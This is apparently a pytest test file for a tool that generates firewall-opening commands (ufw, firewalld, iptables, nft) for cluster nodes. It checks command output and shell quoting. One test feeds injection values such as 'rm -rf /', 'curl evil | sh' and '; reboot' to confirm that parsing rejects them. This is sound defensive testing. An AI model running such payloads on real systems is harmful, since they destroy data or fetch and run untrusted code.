"""What is to be pasted, by the firewall that a node runs."""

from __future__ import annotations

import json
import shlex
import subprocess
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.preflight.reach.firewall import (
    FIREWALL,
    PORT_RANGE,
    Chain,
    Firewall,
    blames,
    open_elsewhere,
    open_inbound,
    open_outbound,
)
from orchestrator.preflight.reach.openings import Opening

SUBNET, RANGE = "10.0.0.0/24", (32768, 60999)


def chain(**more: Any) -> Chain:
    fields: dict[str, Any] = {
        "tool": "nft",
        "family": "inet",
        "table": "filter",
        "name": "input",
        "hook": "input",
        "priority": 0,
        "blocks": True,
        "plain": True,
    }
    return Chain(**{**fields, **more})


def wall(*chains: Chain, **more: Any) -> Firewall:
    fields: dict[str, Any] = {"manager": None, "zone": None, "unreadable": None}
    return Firewall(chains=chains, **{**fields, **more})


def inbound(firewall: Firewall, subnet: str = SUBNET, main: int | None = 29500) -> list[str]:
    remedy = open_inbound(firewall, subnet, main, RANGE)
    return [] if remedy is None else list(remedy.commands)


def outbound(firewall: Firewall) -> list[str]:
    remedy = open_outbound(firewall, SUBNET, 29500, RANGE)
    return [] if remedy is None else list(remedy.commands)


IPTABLES = {"tool": "iptables", "family": "ip", "table": "filter", "name": "INPUT"}
OUT = {"hook": "output", "name": "output"}


def test_ufw_is_told_ports_and_range_in_one_rule() -> None:
    firewall = wall(chain(**IPTABLES), manager="ufw")
    assert inbound(firewall) == [
        "ufw allow from 10.0.0.0/24 to any port 29500,32768:60999 proto tcp"
    ]


def test_ufw_is_told_of_what_goes_out() -> None:
    firewall = wall(chain(**{**IPTABLES, "name": "OUTPUT", "hook": "output"}), manager="ufw")
    assert outbound(firewall) == ["ufw allow out to 10.0.0.0/24 port 29500,32768:60999 proto tcp"]


def test_firewalld_is_told_a_rule_for_each_of_the_ports_in_the_zone() -> None:
    firewall = wall(chain(table="firewalld"), manager="firewalld", zone="internal")
    rule = 'rule family="ipv4" source address="10.0.0.0/24" port port="{}" protocol="tcp" accept'
    assert [shlex.split(command) for command in inbound(firewall)] == [
        ["firewall-cmd", "--permanent", "--zone=internal", f"--add-rich-rule={rule.format(29500)}"],
        [
            "firewall-cmd",
            "--permanent",
            "--zone=internal",
            f"--add-rich-rule={rule.format('32768-60999')}",
        ],
        ["firewall-cmd", "--reload"],
    ]


def test_what_goes_out_is_a_policy_of_firewalld_or_a_direct_rule() -> None:
    commands = outbound(wall(chain(table="firewalld", **OUT), manager="firewalld"))
    assert commands[0] == "firewall-cmd --permanent --new-policy=orch-out"
    assert "destination address" in commands[-2]
    old = wall(chain(**{**IPTABLES, "hook": "output"}), manager="firewalld")
    assert outbound(old) == [
        (
            "firewall-cmd --permanent --direct --add-rule ipv4 filter OUTPUT 0 -d 10.0.0.0/24 -p tcp "
            "-m multiport --dports 29500,32768:60999 -j ACCEPT"
        ),
        "firewall-cmd --reload",
    ]


def test_iptables_is_told_before_all_other_rules() -> None:
    assert inbound(wall(chain(**IPTABLES))) == [
        "iptables -I INPUT -s 10.0.0.0/24 -p tcp -m multiport --dports 29500,32768:60999 -j ACCEPT"
    ]


def test_another_table_and_another_kind_of_iptables_are_named() -> None:
    raw = chain(
        tool="iptables-legacy", family="ip", table="raw", name="PREROUTING", hook="prerouting"
    )
    assert inbound(wall(raw))[0].startswith("iptables-legacy -t raw -I PREROUTING -s ")


def test_a_network_of_ipv6_is_opened_where_ipv6_is_filtered() -> None:
    six = chain(tool="ip6tables", family="ip6", table="filter", name="INPUT")
    four = chain(**IPTABLES)
    both = chain()
    commands = inbound(wall(four, six, both), "fd00::/64")
    assert [command.split()[0] for command in commands] == ["ip6tables", "nft"]
    assert " ip6 saddr fd00::/64 " in commands[1]


def test_every_base_chain_that_blocks_gets_its_line() -> None:
    """In nftables, to be accepted in one base chain does not save a packet from the next."""
    open_chain = chain(table="third", blocks=False)
    firewall = wall(chain(), chain(family="ip", table="second", hook="prerouting"), open_chain)
    assert inbound(firewall) == [
        (
            "nft insert rule inet filter input ip saddr 10.0.0.0/24 tcp dport '{ 29500, 32768-60999 }' "
            "accept"
        ),
        (
            "nft insert rule ip second input ip saddr 10.0.0.0/24 tcp dport '{ 29500, 32768-60999 }' "
            "accept"
        ),
    ]


def test_what_goes_out_is_matched_by_where_it_goes() -> None:
    (command,) = outbound(wall(chain(), chain(**OUT)))
    assert command.startswith("nft insert rule inet filter output ip daddr 10.0.0.0/24 tcp dport ")


def test_a_table_beside_the_managers_own_is_opened_as_well() -> None:
    firewall = wall(chain(table="firewalld"), chain(table="extra"), manager="firewalld", zone="z")
    commands = inbound(firewall)
    assert commands[-2] == "firewall-cmd --reload"
    assert commands[-1].startswith("nft insert rule inet extra ")


def test_a_manager_that_lets_the_job_through_is_left_alone() -> None:
    firewall = wall(chain(table="firewalld", blocks=False), chain(table="x"), manager="firewalld")
    (command,) = inbound(firewall)
    assert command.startswith("nft insert rule inet x ")


def test_a_manager_whose_rules_nobody_saw_is_told_all() -> None:
    assert inbound(wall(manager="ufw", unreadable="root only"))[0].startswith("ufw allow from ")


def test_how_long_it_lasts_is_said() -> None:
    remedies = [
        open_inbound(firewall, SUBNET, 29500, RANGE)
        for firewall in (wall(chain()), wall(chain(**IPTABLES), manager="ufw"))
    ]
    assert all(remedy is not None and "reboot" in remedy.text for remedy in remedies)


def test_where_nothing_blocks_nothing_is_to_be_opened() -> None:
    firewall = wall(chain(blocks=False))
    assert open_inbound(firewall, SUBNET, 29500, RANGE) is None
    assert blames(firewall, "input") is False
    assert "security group" in open_elsewhere(SUBNET, 29500, RANGE).text


def test_unseen_rules_are_neither_blamed_nor_cleared() -> None:
    firewall = wall(unreadable="nft: Operation not permitted")
    assert blames(firewall, "input") is None
    remedy = open_inbound(firewall, SUBNET, 29500, RANGE)
    assert remedy is not None and remedy.commands == ()
    assert "10.0.0.0/24" in remedy.text and "29500 and 32768-60999" in remedy.text
    # What was seen is enough to blame.
    assert blames(wall(chain(), unreadable="ip6tables: failed"), "input") is True


def test_it_is_called_as_people_call_it() -> None:
    walls = [wall(chain()), wall(chain(**IPTABLES)), wall(manager="ufw"), wall()]
    assert [each.name for each in walls] == ["nftables", "iptables", "ufw", "firewall"]


PORT = st.integers(1, 65535)


@given(st.none() | PORT, PORT, PORT)
def test_ranges_hold_every_port_once_and_none_beside(
    main: int | None, one: int, other: int
) -> None:
    low, high = min(one, other), max(one, other)
    ports = Opening.make("input", SUBNET, main, (low, high)).ports
    covered = [port for first, last in ports for port in range(first, last + 1)]
    assert len(covered) == len(set(covered))
    assert set(covered) == {*range(low, high + 1)} | ({main} if main else set())


@given(st.text(min_size=1, max_size=40), st.text(min_size=1, max_size=40))
def test_any_name_survives_the_shell_and_nft(table: str, name: str) -> None:
    (command,) = inbound(wall(chain(table=table, name=name, plain=False)))
    words = shlex.split(command)
    assert words[:2] == ["nft", "-j"]
    rule = json.loads(words[2])["nftables"][0]["insert"]["rule"]
    assert (rule["table"], rule["chain"]) == (table, name)
    assert command.isprintable()  # nothing that could do harm to a terminal


def test_braces_and_quotes_reach_the_command_through_a_real_shell() -> None:
    firewall = wall(chain(), chain(table="it's", name='"{ $x }"', plain=False))
    for command in inbound(firewall):
        printed = subprocess.run(
            ["sh", "-c", f"nft() {{ printf '%s\\n' \"$@\"; }}; {command}"],
            capture_output=True,
            text=True,
            check=True,
            timeout=10,
        )
        assert printed.stdout.splitlines() == shlex.split(command)[1:]


RAW_CHAIN = {
    "tool": "nft", "family": "inet", "table": "filter", "name": "input", "hook": "input",
    "priority": 0, "blocks": True, "plain": True,
}  # fmt: skip


def raw(**more: Any) -> dict[str, Any]:
    return {"manager": None, "zone": None, "unreadable": None, "chains": [RAW_CHAIN], **more}


def test_what_a_node_answers_is_parsed() -> None:
    assert FIREWALL.parse(raw()) == wall(chain())
    assert PORT_RANGE.parse([32768, 60999]) == RANGE


@pytest.mark.parametrize(
    "lie",
    [
        {"manager": "rm -rf /"},
        {"chains": [{**RAW_CHAIN, "tool": "curl evil | sh"}]},
        {"chains": [{**RAW_CHAIN, "family": "x; reboot"}]},
        {"chains": [{**RAW_CHAIN, "tool": "iptables", "name": "INPUT; reboot"}]},
        {"chains": [{**RAW_CHAIN, "priority": "high"}]},
    ],
)
def test_a_node_cannot_put_words_into_the_lines(lie: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match=r"unknown|invalid"):
        FIREWALL.parse(raw(**lie))


def test_a_name_that_is_no_plain_word_is_never_said_plainly() -> None:
    firewall = FIREWALL.parse(raw(chains=[{**RAW_CHAIN, "table": "\x1b[2J"}]))
    (command,) = inbound(firewall)
    assert command.startswith("nft -j ") and command.isprintable()
